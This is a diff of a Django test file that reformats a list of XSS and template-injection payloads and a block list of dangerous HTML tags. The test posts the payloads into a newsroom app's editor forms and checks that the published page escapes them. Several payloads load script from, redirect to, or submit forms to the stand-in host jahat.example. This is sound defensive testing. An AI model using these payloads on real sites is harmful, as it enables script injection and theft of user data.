@@ -21,21 +21,77 @@ pytestmark = pytest.mark.django_db
 
 _HOST: Final = "kim-kenari.kim.localhost"
 PAYLOADS: Final = (
-    "<script>alert(1)</script>", "<ScRiPt src=//jahat.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>",
-    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "` onload=`alert(1)",
-    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>",
-    "<!--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<object data=javascript:alert(1)>",
-    "<embed src=//jahat.example>", "<base href=//jahat.example/>", "<meta http-equiv=refresh content='0;url=//jahat.example'>",
-    "<link rel=stylesheet href=//jahat.example/x.css>", "<style>*{display:none}</style>", "<form action=//jahat.example><input name=p>",
-    "<math><mtext><script>alert(1)</script></mtext></math>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
-    "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<x contenteditable onblur=alert(1)>",
-    "{{ 7|add:7 }}{% now 'Y' %}", "{% include '403.html' %}", "{{ request.session.session_key }}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
-    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\u003cscript\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u200bscript>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<script/x>alert(1)</script>",
-    "javascript:alert(1)//", "\u202e<script>alert(1)</script>", "\u2028<script>alert(1)</script>", "<!--berat--><script>alert(1)</script>",
-)  # fmt: skip
-_NEVER: Final = frozenset("script iframe object embed base img video source marquee math isindex x frame applet".split())
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//jahat.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)>",
+    "<body onload=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    "` onload=`alert(1)",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=//jahat.example>",
+    "<base href=//jahat.example/>",
+    "<meta http-equiv=refresh content='0;url=//jahat.example'>",
+    "<link rel=stylesheet href=//jahat.example/x.css>",
+    "<style>*{display:none}</style>",
+    "<form action=//jahat.example><input name=p>",
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+    "<x contenteditable onblur=alert(1)>",
+    "{{ 7|add:7 }}{% now 'Y' %}",
+    "{% include '403.html' %}",
+    "{{ request.session.session_key }}",
+    "${7*7}",
+    "<%= 7*7 %>",
+    "#{7*7}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\u003cscript\u003ealert(1)",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "<\u200bscript>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<script/x>alert(1)</script>",
+    "javascript:alert(1)//",
+    "\u202e<script>alert(1)</script>",
+    "\u2028<script>alert(1)</script>",
+    "<!--berat--><script>alert(1)</script>",
+)
+_NEVER: Final = frozenset(
+    (
+        "script",
+        "iframe",
+        "object",
+        "embed",
+        "base",
+        "img",
+        "video",
+        "source",
+        "marquee",
+        "math",
+        "isindex",
+        "x",
+        "frame",
+        "applet",
+    )
+)
 
 
 class Reading(HTMLParser):
@@ -52,10 +108,14 @@ class Reading(HTMLParser):
         if (tag in _NEVER and not is_dot) or self.sheets > 1:
             self.harm.append(f"<{tag}>")
         for name, value in attrs:
-            address = name in ("href", "src", "action", "formaction", "content") and (value or "").strip().lower()
+            address = name in ("href", "src", "action", "formaction") and (value or "").strip().lower()
             if name.startswith("on") or name in ("style", "srcdoc", "http-equiv", "contenteditable", "autofocus"):
                 self.harm.append(f"<{tag} {name}>")
-            if address and ("javascript:" in address or "jahat.example" in address) and not address.startswith("https://wa.me/?text="):
+            if (
+                address
+                and ("javascript:" in address or "jahat.example" in address)
+                and not address.startswith("https://wa.me/?text=")
+            ):
                 self.harm.append(f"<{tag} {name}={value}>")
 
 
@@ -90,7 +150,9 @@ def _pages(gate: Gate, editor: Person, story: Story, token: str, payload: str) -
     for path in (inside, f"{inside}ubah/"):
         yield browser.send("GET", RUANG, path).body
     for verb, name in (("tautan", "holder_name"), ("pastikan", "how_known"), ("putusan", "decision"), ("sumber", "source_kind")):
-        yield browser.send("POST", RUANG, f"{inside}{verb}/", {name: payload[:90] + (" ya" if verb == "tautan" else "x" * 400)}).body
+        yield browser.send(
+            "POST", RUANG, f"{inside}{verb}/", {name: payload[:90] + (" ya" if verb == "tautan" else "x" * 400)}
+        ).body
     actions.publish(story, by=editor, at=now)
     gate.store.catch_up()
     yield reader.send("GET", _HOST, story.path).body
